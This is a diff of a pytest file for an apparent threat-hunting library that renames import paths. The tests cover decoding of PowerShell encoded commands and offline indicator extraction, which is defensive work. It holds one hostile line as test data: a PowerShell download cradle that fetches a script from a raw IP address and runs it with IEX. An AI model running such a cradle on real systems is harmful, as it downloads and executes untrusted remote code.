@@ -5,7 +5,7 @@ import socket
 
 import pytest
 
-from hunting_lib.indicators import decode_command_line, extract_indicators, ip_kind
+from hunting_lib.triage.indicators import decode_command_line, extract_indicators, ip_kind
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.34/a')"
 
@@ -21,7 +21,7 @@ def test_powershell_encoded_command_is_decoded_as_utf16():
 
 @pytest.mark.parametrize("switch", ["-enc", "-EncodedCommand", "/e", "-ec", "\u2013enco", "-EnCoDeD"])
 def test_every_spelling_of_the_encoded_command_switch_decodes_without_msticpy(switch):
-    from hunting_lib.indicators import powershell_encoded_commands
+    from hunting_lib.triage.indicators import powershell_encoded_commands
 
     texts, rest = powershell_encoded_commands(f'powershell.exe -nop {switch} "{encode_ps(CRADLE)}" -x')
     assert texts == [CRADLE] and encode_ps(CRADLE) not in rest
@@ -38,7 +38,7 @@ def test_long_words_do_not_load_msticpy():
     import subprocess
     import sys
 
-    probe = ("import sys; from hunting_lib.indicators import decode_command_line as d; "
+    probe = ("import sys; from hunting_lib.triage.indicators import decode_command_line as d; "
              "r = d(r'cmd.exe /c msiexec.exe /i \\\\fs01\\GoogleChromeStandaloneEnterprise64.msi /quiet'); "
              "print(r, 'msticpy' in sys.modules)")
     done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
@@ -84,7 +84,7 @@ def test_extraction_never_touches_the_network(monkeypatch, tmp_path):
 
     import tldextract
 
-    from hunting_lib import indicators
+    from hunting_lib.triage.pipeline import indicators
 
     # Start from tldextract's own default (online) extractor with an empty cache, as a fresh
     # machine would: it then tries to download the public suffix list.
